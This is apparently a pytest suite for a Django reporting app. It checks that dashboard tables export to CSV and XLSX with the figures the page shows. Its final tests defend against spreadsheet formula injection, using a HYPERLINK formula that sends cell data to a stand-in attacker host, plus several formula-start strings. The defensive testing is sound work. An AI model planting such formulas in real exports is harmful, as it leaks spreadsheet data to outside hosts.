"""Each dashboard table exports to CSV and XLSX with the same figures the page shows."""

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from inventory.models import StockLocation
from inventory.services import stock_receive
from reports.tables import COSTS_TABLES, DASHBOARD_TABLES, TABLES
from tests.factories import PartFactory
from tests.reports.conftest import NOW
from tests.reports.helpers import WEEK

pytestmark = pytest.mark.django_db


def _get(client, name, fmt, **params):
    with time_machine.travel(NOW, tick=False):
        return client.get(reverse("reports:export", args=[name, fmt]), {**WEEK, **params})


def _csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx(response) -> list[tuple]:
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    return list(sheet.iter_rows(values_only=True))


def test_the_status_table_as_csv_and_xlsx(manager_client, week):
    csv_rows = _csv(_get(manager_client, "status", "csv", service_type=week.service_type.pk))
    xlsx_rows = _xlsx(_get(manager_client, "status", "xlsx", service_type=week.service_type.pk))

    assert csv_rows[0] == ["Status", "Work orders"]
    assert dict(csv_rows[1:])["Closed"] == "2"
    assert dict(csv_rows[1:])["New"] == "2"
    assert xlsx_rows[0] == ("Status", "Work orders")
    assert dict(xlsx_rows[1:])["Cancelled"] == 1
    assert sum(count for _status, count in xlsx_rows[1:]) == 6


def test_the_times_table_gives_hours_in_business_and_clock_time(manager_client, week):
    rows = _xlsx(_get(manager_client, "times", "xlsx", service_type=week.service_type.pk))
    assert rows[0][0] == "Interval"
    resolution = next(r for r in rows if r[0] == "Resolution")
    # Business: average (13 + 4.5 + 2) / 3 = 6.5 h, p90 11.3 h; clock: average 38.5 h, p90 65 h.
    assert resolution == ("Resolution", 3, 6.5, 11.3, 38.5, 65.0)


def test_the_daily_table_has_dates_as_dates_in_the_spreadsheet(manager_client, week):
    rows = _xlsx(_get(manager_client, "daily", "xlsx", service_type=week.service_type.pk))
    assert rows[0][:2] == ("Day", "Total")
    first = rows[1]
    assert first[0] in (date(2025, 3, 3), datetime(2025, 3, 3))  # openpyxl reads dates back as datetimes
    assert first[1] == 1
    assert [r[1] for r in rows[1:]] == [1, 2, 2, 0, 1, 0, 0]


def test_the_leaderboard_export_has_every_technician_with_utilisation(manager_client, week):
    rows = _csv(_get(manager_client, "leaderboard", "csv", service_type=week.service_type.pk))
    header, t1, t2 = rows
    assert header[:3] == ["Technician", "Partner company", "Completed jobs"]
    assert t1[0] == "Li Wei" and t1[2] == "2" and t1[-3:] == ["3.5", "38.0", "9.2"]
    assert t2[0] == "Zhang Min" and t2[1] == week.t2.partner_company.name and t2[-2:] == ["", ""]


def test_the_quality_and_sla_tables(manager_client, week):
    quality = dict(_xlsx(_get(manager_client, "quality", "xlsx", service_type=week.service_type.pk))[1:])
    sla = _xlsx(_get(manager_client, "sla", "xlsx", service_type=week.service_type.pk))
    assert quality["First-time fix rate %"] == 33.3
    assert quality["Average satisfaction (1–5)"] == 3.67
    assert quality["NPS"] == 33.3
    assert sla[1] == ("First response", 3, 2, 60.0)


@pytest.mark.parametrize("name", TABLES)
def test_every_table_exports_in_both_formats_with_a_file_name(manager_client, week, name):
    if name == "stock-value":  # the week has no stock: a store with some
        store = StockLocation.objects.create(code="central", name="Central store", kind="warehouse")
        stock_receive(location_id=store.pk, part_id=PartFactory().pk, quantity="3", actor=week.manager)
    for fmt in ("csv", "xlsx"):
        response = _get(manager_client, name, fmt)
        assert response.status_code == 200
        assert response["Content-Disposition"] == f'attachment; filename="report-{name}-20250303-20250309.{fmt}"'
    assert len(_csv(_get(manager_client, name, "csv"))) >= 2


@pytest.mark.parametrize("page, names", [("reports:dashboard", DASHBOARD_TABLES), ("reports:costs", COSTS_TABLES)])
def test_the_page_links_to_each_export(manager_client, week, page, names):
    with time_machine.travel(NOW, tick=False):
        html = manager_client.get(reverse(page), WEEK).content.decode()
    for name in names:
        assert f'data-export="{name}-csv"' in html
        assert f'data-export="{name}-xlsx"' in html


# A partner company's name is typed by a manager; a spreadsheet must show it, never run it.
FORMULA_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"Open")'


def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(manager_client, week):
    # Given a partner company whose name is a spreadsheet formula
    company = week.t2.partner_company
    company.name = FORMULA_NAME
    company.save(update_fields=["name"])

    # When a manager exports the leaderboard as CSV
    rows = _csv(_get(manager_client, "leaderboard", "csv", service_type=week.service_type.pk))

    # Then the name is there with an apostrophe in front (text to a spreadsheet), and figures are plain
    partner_row = next(r for r in rows if r[0] == "Zhang Min")
    assert partner_row[1] == "'" + FORMULA_NAME
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_name_that_looks_like_a_formula_is_a_text_cell_in_the_xlsx(manager_client, week):
    company = week.t2.partner_company
    company.name = FORMULA_NAME
    company.save(update_fields=["name"])

    response = _get(manager_client, "leaderboard", "xlsx", service_type=week.service_type.pk)

    # The workbook holds no formula at all, and the cell shows the name as it was typed
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "Zhang Min")
    assert cell.value == FORMULA_NAME
    assert cell.data_type == "s"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1+1"])
def test_every_formula_start_is_neutralised_and_numbers_are_left_alone(text):
    from core.exports import csv_bytes, xlsx_bytes

    rows = list(csv.reader(io.StringIO(csv_bytes(["name", "figure"], [[text, -3.5]]).decode("utf-8-sig"))))
    assert rows[1] == ["'" + text, "-3.5"]

    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["name", "figure"], [[text, -3.5]]))).active
    name, figure = sheet["A2"], sheet["B2"]
    # (An XML reader turns a carriage return into a line feed.)
    assert (name.value, name.data_type) == (text.replace("\r", "\n"), "s")
    assert (figure.value, figure.data_type) == (-3.5, "n")
